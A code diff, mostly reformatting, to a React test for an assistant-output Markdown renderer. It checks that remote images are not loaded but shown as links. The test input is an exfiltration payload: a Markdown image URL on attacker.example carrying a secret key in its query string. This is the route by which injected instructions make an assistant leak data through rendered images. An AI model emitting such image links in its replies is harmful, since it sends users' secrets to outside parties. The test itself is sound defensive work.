@@ -5,12 +5,17 @@ import { Markdown } from "./markdown";
 
 afterEach(cleanup);
 
-const imgSources = (container: HTMLElement) => [...container.querySelectorAll("img")].map((img) => img.getAttribute("src"));
+const imgSources = (container: HTMLElement) =>
+  [...container.querySelectorAll("img")].map((img) => img.getAttribute("src"));
 
 describe("images in assistant markdown", () => {
   it("security #9: a remote image is not loaded; it is a link to open it in a new tab", () => {
     const secret = "sk-live-123";
-    const { container } = render(<Markdown text={`Here you go ![chart](https://attacker.example/c.png?q=${secret}) and ![](//cdn.attacker.example/p.gif)`} />);
+    const { container } = render(
+      <Markdown
+        text={`Here you go ![chart](https://attacker.example/c.png?q=${secret}) and ![](//cdn.attacker.example/p.gif)`}
+      />,
+    );
     expect(container.querySelectorAll("img")).toHaveLength(0);
     expect(container.innerHTML).not.toMatch(/<img[^>]*attacker/);
     const links = screen.getAllByTestId("remote-image");
